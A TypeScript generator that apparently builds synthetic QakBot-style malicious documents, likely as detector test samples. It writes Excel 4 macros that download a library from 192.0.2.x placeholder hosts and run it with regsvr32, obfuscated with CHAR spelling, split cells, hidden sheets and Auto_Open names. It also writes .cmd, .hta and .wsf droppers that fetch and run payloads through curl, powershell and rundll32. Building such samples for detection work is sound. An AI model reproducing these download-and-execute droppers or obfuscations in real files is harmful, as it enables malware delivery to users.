/** Documents after campaigns of QakBot. */

import { tokens, writeBiffXlm, writeXlm } from '../xlm-writer.ts'
import { charOf } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { tokensB, writeXlsb } from './excel4.ts'
import { note } from './notes.ts'

const [EXEC, CALL, CHAR, FORMULA] = [110, 150, 111, 0x8000 | 96]

/** Excel 4 macros that load a library from a server; notes with a script under a button (2020 to 2023). */
export function qakBot(i: number): Buffer {
  const d = disguiseOf(800 + i)
  const [name] = [d.name()]
  const load = `CALL("URLMON","URLDownloadToFileA","JJCCBB",0,"http://192.0.2.${i + 1}/${name}","C:\\ProgramData\\${name}.ocx",0,0)`
  const run = `EXEC("regsvr32 -s C:\\ProgramData\\${name}.ocx")`
  const { text, call, number, fixed, concatenated } = tokens
  const spelled = (letters: string): Buffer =>
    Buffer.concat(
      [...letters].flatMap((letter, at) => [
        number(letter.charCodeAt(0)),
        fixed(CHAR),
        ...(at === 0 ? [] : [concatenated]),
      ]),
    )
  const spelledB = (letters: string): Buffer =>
    Buffer.concat(
      [...letters].flatMap((letter, at) => [
        tokensB.number(letter.charCodeAt(0)),
        tokensB.fixed(CHAR),
        ...(at === 0 ? [] : [tokensB.joined]),
      ]),
    )
  const variants: (() => Buffer)[] = [
    () => writeXlm({ formulas: [load, run, 'HALT()'], state: 'veryHidden' }),
    () =>
      writeXlm({
        formulas: [`FORMULA(${charOf(`=${load}`)},A20)`, `FORMULA(${charOf(`=${run}`)},A21)`, 'GOTO(A20)'],
        state: 'veryHidden',
      }),
    () =>
      writeXlm({
        formulas: ['FORMULA("="&data!A1&data!A3&data!A2,B9)', 'GOTO(B9)'],
        data: ['EXE', '32 -s C:\\ProgramData\\x.ocx")', 'C("regsvr'],
        state: 'hidden',
      }),
    () =>
      writeBiffXlm({
        formulas: [Buffer.concat([text('regsvr32 -s C:\\ProgramData\\x.ocx'), call(EXEC, 1)])],
        state: 2,
      }),
    () =>
      writeBiffXlm({
        formulas: [Buffer.concat([spelled('regsvr32 -s x.ocx'), call(EXEC, 1)])],
        state: 2,
        name: 'Auto_Openxx',
      }),
    () =>
      writeBiffXlm({
        formulas: [
          Buffer.concat([
            text('UR'),
            text('LMON'),
            concatenated,
            text('URLDownloadToFileA'),
            text('JJCCBB'),
            number(0),
            spelled(`http://192.0.2.${i}/a`),
            text('C:\\ProgramData\\a.ocx'),
            call(CALL, 6),
          ]),
        ],
        state: 1,
      }),
    () =>
      writeXlsb({
        formulas: [Buffer.concat([tokensB.text('regsvr32 -s C:\\ProgramData\\x.ocx'), tokensB.call(EXEC, 1)])],
      }),
    () =>
      writeXlsb({
        formulas: [Buffer.concat([spelledB('regsvr32 -s x.ocx'), tokensB.call(EXEC, 1)])],
        name: 'Auto_Open21',
      }),
    () =>
      writeXlsb({
        formulas: [Buffer.concat([spelledB('=EXEC("regsvr32 x.ocx")'), tokensB.cell(9, 0), tokensB.call(FORMULA, 2)])],
      }),
    () =>
      note(
        'open.cmd',
        `@echo off\r\npowershell invoke-webrequest -uri http://192.0.2.${i}/01.gif -outfile C:\\programdata\\a.jpg\r\nrundll32 C:\\programdata\\a.jpg,Wind\r\n`,
      ),
    () =>
      note(
        'Open.hta',
        `<html><head><script language="javascript">var o = new ActiveXObject("WScript.Shell"); o.Run("curl -o C:\\\\ProgramData\\\\a.png http://192.0.2.${i}/a.dat", 0); o.Run("rundll32 C:\\\\ProgramData\\\\a.png,Wind", 0);</script></head></html>`,
      ),
    () =>
      note(
        'attachment.wsf',
        `<job><script language="VBScript">x = "${[...`rundll32 \\\\192.0.2.${i}\\s\\a.dll,Wind`].reverse().join('')}"\nCreateObject("WScript.Shell").Run StrReverse(x)</script></job>`,
      ),
  ]
  return (variants[i] as () => Buffer)()
}
